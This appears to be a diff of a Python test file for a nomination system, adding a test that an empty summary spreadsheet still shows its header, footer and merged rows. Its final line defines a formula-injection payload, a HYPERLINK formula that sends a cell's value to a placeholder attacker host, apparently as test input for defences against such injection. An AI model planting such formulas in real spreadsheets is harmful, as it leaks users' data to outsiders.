@@ -6,6 +6,7 @@ import zipfile
 import docx
 import pytest
 from docxtpl import DocxTemplate
+from openpyxl.utils import get_column_letter
 
 from jiangxuan.documents.build_templates import NOMINATION_FORM
 from jiangxuan.documents.layout import opinion_labels
@@ -223,6 +224,26 @@ def test_render_summary_xlsx_ungrouped_numbers_rows(make_nomination, campaign):
     assert sheet.merged_cells.ranges == set() or all(
         r.min_row < 3 or r.min_row > 5 for r in sheet.merged_cells.ranges
     )
+
+
+@pytest.mark.parametrize("grouped", [True, False])
+def test_render_summary_xlsx_without_nominations_prints_head_and_footer(campaign, grouped):
+    spec = campaign.specification.model_dump(mode="json")
+    spec["summary_sheet"]["group_by_award"] = grouped
+    campaign.spec = spec
+    campaign.__dict__.pop("specification", None)
+    sheet_spec = campaign.specification.summary_sheet
+
+    sheet = xlsx_sheet(render_summary_xlsx(campaign, [], unmasked_ids=set()))
+
+    assert [c.value for c in sheet[3]] == [c.label for c in sheet_spec.columns]
+    assert sheet.cell(row=5, column=1).value == sheet_spec.footer[0]
+    assert sheet.cell(row=6, column=1).value == sheet_spec.note
+    last = get_column_letter(len(sheet_spec.columns))
+    assert {str(r) for r in sheet.merged_cells.ranges if r.min_row > 3} == {
+        f"A5:{last}5",
+        f"A6:{last}6",
+    }
 
 
 INJECTED = '=HYPERLINK("http://evil.example/?leak="&C4,"点击查看")'
